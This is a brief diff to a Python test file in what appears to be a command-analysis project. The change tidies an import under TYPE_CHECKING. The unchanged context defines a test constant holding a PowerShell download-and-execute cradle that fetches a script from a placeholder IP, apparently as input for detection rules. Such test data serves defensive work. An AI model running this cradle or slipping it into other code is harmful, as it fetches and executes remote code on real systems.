@@ -5,13 +5,15 @@ from __future__ import annotations
 import base64
 import json
 from pathlib import Path
-from typing import Any
+from typing import TYPE_CHECKING, Any
 
 import pytest
-from conftest import Investigator
 from whole_run import assert_sound, command, row_hashes, rows_of
 
 from casemate.engine.protocol import Engine
+
+if TYPE_CHECKING:
+    from conftest import Investigator  # there are several files of this name; pytest finds the fixture by its own
 
 DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
 RULES = {
